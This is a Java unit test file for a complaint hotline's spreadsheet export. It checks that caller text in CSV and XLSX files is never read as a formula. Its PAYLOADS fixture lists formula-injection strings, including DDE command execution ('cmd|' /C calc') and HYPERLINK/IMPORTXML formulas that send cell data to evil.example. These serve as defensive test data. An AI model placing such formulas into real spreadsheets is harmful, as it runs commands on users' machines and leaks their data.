package cn.hotline12315.core.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.zip.ZipFile;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.RepeatedTest;
import org.junit.jupiter.api.RepetitionInfo;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Callers' words in spreadsheets: none is ever a formula, all come back as they were.
class CellsTest {
    /// What is known to be tried, and what must pass unharmed.
    private static final List<String> PAYLOADS = List.of(
            "=cmd|' /C calc'!A0",
            "=1+1",
            "+1-1",
            "-2+3+cmd|' /C calc'!D2",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点此\")",
            "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A2),\"//a\")",
            "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\u00a0=1+1",
            "\u200b=1+1",
            "\ufeff=1+1",
            "＝1+1",
            "＋8613971000001",
            "－1",
            "＠甲",
            "\u3000＝1",
            "\";=1+1;\"",
            "甲,乙\n\"丙\"");
    private static final List<String> HARMLESS = List.of(
            "13971000001",
            "027-87654321",
            "4201 2026 1121 0042 7",
            "购买的牛奶已过期，商家拒绝退款。",
            "价格=59.90元",
            "a=b",
            "（甲）",
            "😀👨‍👩‍👧‍👦𠮷野家",
            "",
            "0",
            "牛奶".repeat(2_000));
    private static final String ALPHABET = "=+-@＝＋－＠\t\r\n \"',;|!'甲a1\u200b\ufeff\u00a0\u3000\u0000\u0007\ufffe😀";

    private static byte[] file(ExportFormat format, List<List<String>> rows) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new Export("x", "表", List.of("一", "二"), rows.size(), false, taker -> {
                    for (List<String> row : rows) {
                        taker.row(row);
                    }
                })
                .write(format, out);
        return out.toByteArray();
    }

    private static List<List<String>> csv(byte[] file) throws IOException {
        String text = new String(file, StandardCharsets.UTF_8);
        assertThat(text).startsWith("\ufeff");
        return CSVFormat.RFC4180.parse(new StringReader(text.substring(1))).stream()
                .map(CSVRecord::toList)
                .toList();
    }

    private static List<List<Cell>> xlsx(byte[] file) throws IOException {
        try (ReadableWorkbook book = new ReadableWorkbook(new ByteArrayInputStream(file))) {
            return book.getFirstSheet().read().stream().map(row -> cells(row)).toList();
        }
    }

    private static List<Cell> cells(Row row) {
        List<Cell> cells = new ArrayList<>();
        row.forEach(cells::add);
        return cells;
    }

    /// What Excel keeps of line ends in a cell.
    private static String read(String text) {
        return Cells.lines(Cells.clean(text));
    }

    @Test
    void everyPayloadIsTextInACsv() throws IOException {
        List<List<String>> rows = csv(file(
                ExportFormat.CSV, PAYLOADS.stream().map(p -> List.of(p, "二")).toList()));
        for (int i = 0; i < PAYLOADS.size(); i++) {
            String cell = rows.get(i + 1).getFirst();
            String payload = PAYLOADS.get(i);
            boolean dangerous = !payload.startsWith("\";") && !payload.startsWith("甲");
            assertThat(cell).isEqualTo((dangerous ? "'" : "") + payload);
        }
    }

    @Test
    void whatIsHarmlessStaysAsItIs() throws IOException {
        List<List<String>> rows = csv(file(
                ExportFormat.CSV, HARMLESS.stream().map(p -> List.of(p, "二")).toList()));
        assertThat(rows.stream().skip(1).map(List::getFirst)).isEqualTo(HARMLESS);
    }

    @Test
    void everyCellOfAWorkbookIsAStringAndReadsBackAsItWas() throws IOException {
        List<String> all = new ArrayList<>(PAYLOADS);
        all.addAll(HARMLESS);
        all.removeIf(String::isEmpty);
        byte[] file =
                file(ExportFormat.XLSX, all.stream().map(p -> List.of(p, "二")).toList());
        List<List<Cell>> rows = xlsx(file);
        assertThat(rows.getFirst().stream().map(Cell::getText)).containsExactly("一", "二");
        for (int i = 0; i < all.size(); i++) {
            Cell cell = rows.get(i + 1).getFirst();
            assertThat(cell.getType()).isEqualTo(CellType.STRING);
            assertThat(cell.getFormula()).isNull();
            assertThat(cell.getText()).isEqualTo(read(all.get(i)));
        }
        assertThat(sheetOf(file)).doesNotContain("<f>", "<f ");
    }

    @ParameterizedTest
    @ValueSource(strings = {"甲\u0000乙", "甲\u0007乙", "甲\ud83d乙", "甲\ufffe乙", "甲\u007f乙"})
    void charactersThatNoFileCanHoldAreLeftOut(String text) throws IOException {
        List<List<String>> rows = List.of(List.of(text, "二"));
        assertThat(csv(file(ExportFormat.CSV, rows)).get(1).getFirst()).isEqualTo("甲乙");
        assertThat(xlsx(file(ExportFormat.XLSX, rows)).get(1).getFirst().getText())
                .isEqualTo("甲乙");
    }

    @Test
    void lineEndsAreAllOfOneKindInAWorkbook() {
        assertThat(Cells.lines("甲\r\n乙\r丙\n丁")).isEqualTo("甲\n乙\n丙\n丁");
    }

    @Test
    void aCellIsCutWhereExcelWouldCutIt() {
        assertThat(Cells.clean("甲".repeat(40_000))).hasSize(32_767);
        assertThat(Cells.clean("😀".repeat(20_000))).hasSize(32_766);
    }

    /// Two thousand texts of characters that matter, ten times: none is a formula in either file, none changes but by
    /// the apostrophe.
    @RepeatedTest(10)
    void noTextBecomesAFormula(RepetitionInfo repetition) throws IOException {
        Random random = new Random(repetition.getCurrentRepetition());
        int[] points = ALPHABET.codePoints().toArray();
        List<String> texts = new ArrayList<>();
        for (int i = 0; i < 2_000; i++) {
            StringBuilder text = new StringBuilder();
            for (int j = random.nextInt(8); j >= 0; j--) {
                text.appendCodePoint(points[random.nextInt(points.length)]);
            }
            texts.add(text.toString());
        }
        List<List<String>> rows = texts.stream().map(text -> List.of("甲", text)).toList();
        List<List<String>> csv = csv(file(ExportFormat.CSV, rows));
        List<List<Cell>> xlsx = xlsx(file(ExportFormat.XLSX, rows));
        for (int i = 0; i < texts.size(); i++) {
            String wanted = Cells.clean(texts.get(i));
            String cell = csv.get(i + 1).get(1);
            assertThat(cell).isIn(wanted, "'" + wanted);
            assertThat(cell.codePoints()
                            .filter(point -> !Character.isWhitespace(point)
                                    && !Character.isSpaceChar(point)
                                    && Character.getType(point) != Character.FORMAT)
                            .limit(1))
                    .as("%s", texts.get(i))
                    .noneMatch(point -> "=+-@＝＋－＠".indexOf(point) >= 0);
            assertThat(cell).doesNotStartWith("\t").doesNotStartWith("\r");
            List<Cell> row = xlsx.get(i + 1);
            if (!wanted.isEmpty()) {
                assertThat(row.get(1).getType()).isEqualTo(CellType.STRING);
                assertThat(row.get(1).getText()).isEqualTo(read(texts.get(i)));
            }
        }
    }

    @ParameterizedTest
    @EnumSource(ExportFormat.class)
    void aLongListIsCutAndSaysSo(ExportFormat format) throws IOException {
        int[] asked = {0};
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new Export("x", "表", List.of("一"), Export.MOST, true, taker -> {
                    while (taker.row(List.of("第 " + ++asked[0] + " 件"))) {}
                })
                .write(format, out);
        assertThat(asked[0]).isEqualTo(Export.MOST + 1);
        List<String> firsts = format == ExportFormat.CSV
                ? csv(out.toByteArray()).stream().map(List::getFirst).toList()
                : xlsx(out.toByteArray()).stream()
                        .map(row -> row.getFirst().getText())
                        .toList();
        assertThat(firsts).hasSize(Export.MOST + 2);
        assertThat(firsts.get(Export.MOST)).isEqualTo("第 50000 件");
        assertThat(firsts.getLast()).contains("50,000", "不是全部");
    }

    private static String sheetOf(byte[] file) throws IOException {
        Path kept = Files.createTempFile("export", ".xlsx");
        try {
            Files.write(kept, file);
            try (ZipFile zip = new ZipFile(kept.toFile())) {
                return new String(
                        zip.getInputStream(zip.getEntry("xl/worksheets/sheet1.xml"))
                                .readAllBytes(),
                        StandardCharsets.UTF_8);
            }
        } finally {
            Files.delete(kept);
        }
    }
}
